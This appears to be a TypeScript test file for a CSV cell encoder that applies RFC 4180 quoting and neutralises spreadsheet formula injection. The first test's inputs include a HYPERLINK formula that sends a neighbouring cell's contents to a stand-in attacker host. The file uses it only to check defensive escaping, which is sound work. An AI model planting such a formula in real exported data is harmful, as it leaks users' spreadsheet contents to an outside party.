// A CSV cell we write: RFC 4180 quoting, and never a live formula in a spreadsheet.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvCell } from '../../src/domain/csv-cell.ts';

describe('csvCell', () => {
  it('neutralises a cell that starts like a formula, whatever follows', () => {
    for (const text of ['=HYPERLINK("http://attacker.invalid/?"&A2,"x")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      const cell = csvCell(text);
      const read = (parse(cell, { relax_quotes: false }) as string[][])[0]?.[0];
      assert.equal(read, `'${text}`, `${JSON.stringify(text)} → ${cell}`);
    }
  });

  it('any text survives a round trip through a CSV parser (plus the apostrophe for a formula start)', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const read = (parse(`${csvCell(text)}\r\n`, { relax_quotes: false }) as string[][])[0]?.[0];
        return (
          read === (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text) ||
          (text === '' && read === undefined) ||
          (text === '' && read === '')
        );
      }),
    );
  });

  it('null is the empty cell; plain values pass as they are', () => {
    assert.equal(csvCell(null), '');
    assert.equal(csvCell('000123456789'), '000123456789');
    assert.equal(csvCell('a,b'), '"a,b"');
  });
});
